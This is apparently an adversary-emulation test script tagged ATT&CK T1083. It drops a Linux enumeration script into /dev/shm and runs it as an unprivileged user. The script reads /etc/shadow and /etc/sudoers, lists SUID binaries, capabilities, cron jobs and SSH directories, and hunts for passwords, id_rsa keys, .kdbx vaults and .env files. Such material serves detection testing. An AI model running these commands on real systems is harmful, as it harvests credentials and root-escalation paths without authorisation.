#!/bin/bash
# T1083: A script looks for all ways to become root.
cat >/dev/shm/l.sh <<'S'
id; hostname; uname -a; cat /etc/os-release /proc/version; cat /etc/passwd | grep -v nologin; cat /etc/group; cat /etc/shadow; env; ps aux
ls -la /etc/cron* /var/spool/cron /etc/systemd/system; cat /etc/crontab; find / -xdev -perm -4000 -type f 2>/dev/null | head; find / -xdev -writable -type d 2>/dev/null | head
getcap -r /usr/bin 2>/dev/null; ls -la /home/*/.ssh /root; cat /etc/sudoers; mount; ss -tlnp; ip a; ip r; cat /etc/exports; ls /var/run/docker.sock
grep -ril password /etc/*.conf /srv 2>/dev/null | head; find / -xdev -name id_rsa -o -xdev -name '*.kdbx' -o -xdev -name '.env' 2>/dev/null | head
S
setpriv --reuid 1001 --regid 1001 --clear-groups bash /dev/shm/l.sh
